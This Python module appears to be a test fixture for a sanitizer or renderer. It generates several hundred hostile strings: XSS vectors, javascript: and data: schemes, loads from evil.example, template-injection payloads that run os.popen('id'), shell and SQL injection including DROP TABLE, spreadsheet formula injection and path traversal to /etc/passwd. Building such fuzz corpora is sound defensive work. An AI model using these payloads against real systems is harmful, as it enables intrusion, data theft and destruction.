"""Strings that have run, redirected, leaked or broken something elsewhere, by kind.

Made from parts, so that each way to run something meets each way out of a
place: text, attribute, address, script, style, comment, template, header.
"""

from __future__ import annotations

from itertools import product

# What every one of them tries to do; the browser of the tests notices each.
RUN = "window.pwned=1"
ELEMENTS = (
    *("<img src=x {}>", "<svg {}>", "<body {}>", "<iframe {}></iframe>", "<input autofocus {}>"),
    *(
        "<details open {}>x</details>",
        "<video><source {}></video>",
        "<audio src=x {}>",
        "<object {}></object>",
    ),
    *("<marquee {}>x</marquee>", "<select autofocus {}>", "<textarea autofocus {}>", "<style {}></style>"),
    *(
        "<link rel=stylesheet href=x {}>",
        "<embed src=x {}>",
        "<a href=# autofocus {}>x</a>",
        "<x tabindex=1 {}>",
    ),
)
EVENTS = (
    *("onerror", "onload", "onfocus", "ontoggle", "onstart", "onpageshow", "onanimationstart"),
    *("onbegin", "ontransitionend", "onbeforetoggle", "oncontentvisibilityautostatechange"),
)
WRITTEN = ("{}={}", '{}="{}"', "{}='{}'", "/{}={}//", "{}\n=\n{}", "{}\x0c={}")
OUTS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "`>",
    "</a>",
    "</svg>",
)
SCHEMES = (
    *(
        "javascript:{}",
        "JaVaScRiPt:{}",
        "java\tscript:{}",
        "java\nscript:{}",
        "\x01javascript:{}",
        " javascript:{}",
    ),
    *("javascript&colon;{}", "&#106;avascript:{}", "vbscript:{}", "data:text/html,<script>{}</script>"),
    *(
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload={}>",
    ),
    *(
        "blob:{}",
        "feed:javascript:{}",
        "view-source:javascript:{}",
        "jar:javascript:{}!/",
        "//evil.example/{}",
    ),
    *(
        "/\\evil.example",
        "https:evil.example",
        "http://[::1]/",
        "https://evil.example\\@127.0.0.1/",
        "file:///etc/passwd",
    ),
)
PLACES = (
    "{}",
    "<a href='{}'>x</a>",
    '<img src="{}">',
    "<form action='{}'><button>x</button></form>",
    "<base href='{}'>",
)
WHOLE = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to={}>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{}'/>#x\">",
    "<svg><a><animate attributeName=href values=javascript:{} /><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<math href=javascript:{}>x</math>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<template><script>{}</script></template>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{}</script>",
    "<link rel=import href=//evil.example/>",
    "<style>@import'//evil.example/x.css';</style>",
    "<style>*{{background:url(//evil.example/leak)}}</style>",
    '<div style="background:url(//evil.example/leak);position:fixed;inset:0;z-index:99">x</div>',
    "<div style=width:expression({})>",
    "<p hx-get=//evil.example/ hx-trigger=load>x</p>",
    "<p hx-on:load={}>x</p>",
    "<p hx-on--load={} data-hx-on::load={}>x</p>",
    "<p data-hx-post=/people hx-trigger=load hx-vals='js:{{x:{}}}'>x</p>",
    "<button data-copy=x formaction=javascript:{}>x</button>",
    "<dialog open onclose={}><form method=dialog><button autofocus>x</button></form></dialog>",
    "<input type=hidden oncontentvisibilityautostatechange={} style=content-visibility:auto>",
    "<input name=csrf value=evil><form action=//evil.example><button>x</button>",
    "<img name=getElementById><form id=keys><input name=showModal>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml version=1.0?><script xmlns='http://www.w3.org/1999/xhtml'>{}</script>",
    "\ufeff<script>{}</script>",
    "＜script＞{}＜/script＞",
    "\u2028{}\u2029",
    "\x00<script>{}</script>",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd={}//>\\x3e",
)
TEMPLATES = (
    *(
        "{{7*7}}",
        "{{ config }}",
        "{{ csrf }}",
        "{% include 'base.html' %}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    ),
    *("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ self._TemplateReference__context }}"),
    *(
        "{%for x in range(9999999)%}{{x}}{%endfor%}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "${{7*7}}",
        "@(7*7)",
        "*{7*7}",
    ),
    *(
        "%(name)s",
        "%s%s%s%n",
        "{0.__class__}",
        "{visitor.csrf}",
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "&& id",
        "{{=7*7}}",
    ),
)
QUERIES = (
    *(
        "'",
        "''",
        '"',
        "' OR '1'='1",
        "' OR 1=1 --",
        '" OR ""="',
        "'; DROP TABLE articles; --",
        "1; SELECT pg_sleep(5)",
    ),
    *(
        "' UNION SELECT password FROM accounts --",
        "\\'",
        "%' AND 1=0 UNION ALL SELECT 1 --",
        "1) OR (1=1",
        "%",
        "_",
        "%%",
    ),
    *(
        "a* OR b*",
        '"a" NEAR/1 "b"',
        "title:x",
        "-x",
        "NOT x",
        "*",
        '"',
        "^x",
        "(((((",
        "AND",
        "'):*",
        "x & y | !z",
        "\\",
        "{x}:y",
    ),
)
TRICKS = (
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "=cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        '=HYPERLINK("http://evil.example","x")',
    ),
    *(
        "a\r\nSet-Cookie: x=1",
        "a\r\n\r\n<script>window.pwned=1</script>",
        "a\nBcc: evil@evil.example",
        "\u202e\u2066gnp.exe",
    ),
    *(
        "\u200f\u202b<b>",
        "x" * 5000,
        "\U0001f1e6\U0001f1f2" * 200,
        "Z̸͓a̷l̵g̶o̸" * 60,
        "\u0000",
        "\x1b[31mred",
        "../../etc/passwd",
    ),
    *(
        "..\\..\\windows\\win.ini",
        "/etc/passwd\x00.html",
        "%2e%2e%2f",
        "\\\\evil.example\\share",
        "CON",
        "null",
        "undefined",
        "NaN",
    ),
    *(
        "__proto__",
        "constructor",
        "-1",
        "0",
        "99999999999999999999",
        "1e309",
        "True",
        "[]",
        "{}",
        "<",
        ">",
        "&",
        "]]>",
        "--",
    ),
)


def strings() -> tuple[str, ...]:
    """All of them, each once; some five hundred and more."""
    found = [element.format(f"{event}={RUN}") for element, event in product(ELEMENTS, EVENTS)]
    found += [f"<img src=x {way.format(event, RUN)}>" for way, event in product(WRITTEN, EVENTS[:4])]
    found += [f"{out}<img src=x onerror={RUN}>" for out in OUTS]
    found += [f"{out} onfocus={RUN} autofocus x=" for out in ('"', "'", "`", "")]
    found += [f"{out};{RUN};//" for out in ('"', "'", "\\'", '\\"', "${", "*/", "\u2028", "</script>")]
    found += [place.format(scheme.format(RUN)) for place, scheme in product(PLACES, SCHEMES)]
    found += [out + _filled(each) for out, each in product(OUTS[:4], WHOLE)]
    found += [*TEMPLATES, *QUERIES, *TRICKS]
    return tuple(dict.fromkeys(found))


def _filled(whole: str) -> str:
    return whole.replace("{{", "{").replace("}}", "}").replace("{}", RUN)
